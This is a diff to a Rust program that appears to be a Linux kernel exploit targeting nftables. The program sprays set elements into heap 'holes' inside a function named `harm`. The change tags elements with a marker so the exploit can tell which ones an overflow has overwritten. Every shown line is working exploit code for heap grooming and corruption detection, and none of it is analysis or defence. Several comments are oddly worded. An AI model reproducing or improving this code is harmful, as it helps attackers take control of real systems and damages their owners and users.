@@ -19,6 +19,8 @@ const HOLE: u32 = 4;
 /// Bytes of a value; the verdict's 16 are at the end of a 64 byte object. With more than this the
 /// link between free objects were hit too, and the kernel would not live to tell.
 const VALUE: u32 = 48;
+/// User data of the elements that see what happens.
+const NOTE: &[u8] = b"whole";
 /// More than there are holes, as a CPU has some free places elsewhere.
 const ATTACKS: u32 = 160;
 
@@ -75,7 +77,10 @@ pub fn harm() -> io::Result<()> {
     for answer in dump(libc::NFT_MSG_GETSETELEM, nft::IP, &request)? {
         for (_, element) in parse(find(&answer, 3).unwrap_or_default()) {
             let key = find(element, 1).and_then(|data| find(data, 1));
-            found.extend(key.map(<[u8]>::to_vec));
+            // The last bytes of the copy hit where an element says that it has this.
+            if find(element, 6) == Some(NOTE) {
+                found.extend(key.map(<[u8]>::to_vec));
+            }
         }
     }
     let wanted = (0..COUNT).filter(|n| n % HOLE != 0);
@@ -95,7 +100,7 @@ pub fn harm() -> io::Result<()> {
 fn change(kind: i32, chosen: impl Fn(u32) -> bool) -> io::Result<()> {
     let elements: Vec<_> = (0..COUNT)
         .filter(|n| chosen(*n))
-        .map(|n| nft::element(&key(n)))
+        .map(|n| nft::element(&key(n)).bytes(6, NOTE))
         .collect();
     let elements = nft::elements(TABLE, VICTIMS, &elements);
     Batch::new()
